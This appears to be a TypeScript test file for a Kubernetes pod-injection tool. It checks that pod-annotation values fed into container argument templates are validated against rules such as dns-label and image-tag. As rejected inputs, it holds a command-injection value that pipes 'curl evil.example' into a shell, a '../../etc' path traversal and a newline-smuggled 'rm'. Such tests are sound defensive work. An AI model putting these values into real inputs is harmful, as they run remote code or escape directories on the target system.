import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { profilesFromYaml, profileYaml } from '../../test/support/profiles.ts';
import { deepFreeze, type JsonObject } from '../common/json.ts';
import { parseProfiles } from '../profiles/parse.ts';
import { inject } from './inject.ts';

const ctx = { namespace: 'shop', kubeVersion: { major: 1, minor: 33 } };
const agent = (args: string[], spec: object = {}) =>
  profileYaml('agent', { version: '1', containers: [{ name: 'agent', image: 'example.com/agent:1', args }], ...spec });
const pod = (annotations: Record<string, string>): JsonObject =>
  deepFreeze({
    metadata: { name: 'p', annotations: { 'outrigger.dev/inject': 'agent', ...annotations } },
    spec: { containers: [{ name: 'app', image: 'a' }] },
  }) as JsonObject;
const argsOf = (d: ReturnType<typeof inject>) => (((d.pod.spec as JsonObject).initContainers as JsonObject[])[0] as JsonObject).args;

describe('template value rules', () => {
  test('a value that follows its rule is used as is', () => {
    const d = inject(pod({ team: 'payments' }), profilesFromYaml(agent(["--team={{ pod.annotations['team'] | dns-label }}"])), ctx);
    assert.equal(d.outcome, 'injected', d.message);
    assert.deepEqual(argsOf(d), ['--team=payments']);
  });

  test('a value that breaks its rule is a template-error naming the field, the variable and the rule', () => {
    const set = profilesFromYaml(agent(["--team={{ pod.annotations['team'] | dns-label }}"]));
    const d = inject(pod({ team: 'x; curl evil.example | sh' }), set, ctx);
    assert.equal(d.reason, 'template-error');
    assert.match(
      d.message,
      /spec\.containers\[0\]\.args\[0\]: \{\{ pod\.annotations\['team'\] \| dns-label \}\}: the value "x; curl evil\.example \| sh" breaks rule dns-label: it must be a DNS-1123 label/,
    );
  });

  test('the profile-wide rule covers every pod and namespace value; a template can name its own', () => {
    const set = profilesFromYaml(
      agent(
        [
          "--dir=/data/{{ pod.annotations['dir'] }}",
          '--ns={{ namespace.name }}',
          '--v={{ profile.version }}',
          "--tag={{ pod.annotations['tag'] | image-tag }}",
        ],
        {
          templateValues: { rule: 'dns-label' },
        },
      ),
    );
    const ok = inject(pod({ dir: 'cache', tag: 'v1.2_3' }), set, ctx);
    assert.equal(ok.outcome, 'injected', ok.message);
    assert.deepEqual(argsOf(ok), ['--dir=/data/cache', '--ns=shop', '--v=1', '--tag=v1.2_3']);
    const escaped = inject(pod({ dir: '../../etc', tag: 'v1' }), set, ctx);
    assert.equal(escaped.reason, 'template-error');
    assert.match(escaped.message, /spec\.containers\[0\]\.args\[0\]: \{\{ pod\.annotations\['dir'\] \}\}: the value "\.\.\/\.\.\/etc" breaks rule dns-label/);
    const newline = inject(pod({ dir: 'a', tag: 'v1\nrm' }), set, ctx);
    assert.match(newline.message, /\{\{ pod\.annotations\['tag'\] \| image-tag \}\}: the value "v1\\nrm" breaks rule image-tag/);
  });

  test('a long value is cut in the message', () => {
    const d = inject(pod({ team: `${'x'.repeat(100_000)};` }), profilesFromYaml(agent(["{{ pod.annotations['team'] | alphanumeric }}"])), ctx);
    assert.equal(d.reason, 'template-error');
    assert.ok(d.message.length < 400, `${d.message.length} characters`);
  });

  test('unknown rules and fallbacks that break their rule are load errors', () => {
    const errors = (args: string[], spec: object = {}) => parseProfiles(agent(args, spec), 'p.yaml').errors;
    assert.deepEqual(errors(["{{ pod.annotations['a'] | shell }}"]), [
      `p.yaml, document 1: spec.containers[0].args[0]: {{ pod.annotations['a'] | shell }}: unknown rule "shell"; known rules are dns-label, dns-subdomain, label-value, image-tag, alphanumeric`,
    ]);
    assert.deepEqual(errors(["{{ pod.annotations['a'] ?? 'No Team' | dns-label }}"]), [
      `p.yaml, document 1: spec.containers[0].args[0]: {{ pod.annotations['a'] ?? 'No Team' | dns-label }}: the fallback "No Team" does not follow rule dns-label: it must be a DNS-1123 label (lower case alphanumerics and "-", starting and ending with an alphanumeric)`,
    ]);
    assert.match(errors([], { templateValues: { rule: 'anything' } })[0] ?? '', /spec\.templateValues\.rule: must be one of "dns-label", "dns-subdomain"/);
    // A `|` inside a quoted fallback is text, not a rule.
    assert.deepEqual(errors(["{{ pod.annotations['a'] ?? 'a | b' }}"]), []);
  });

  test('a profile without a rule keeps its hash', () => {
    const [plain] = parseProfiles(agent(['x']), 'p.yaml').profiles;
    assert.equal(plain?.templateRule, undefined);
    assert.equal(Object.hasOwn(plain ?? {}, 'templateRule'), false);
  });
});
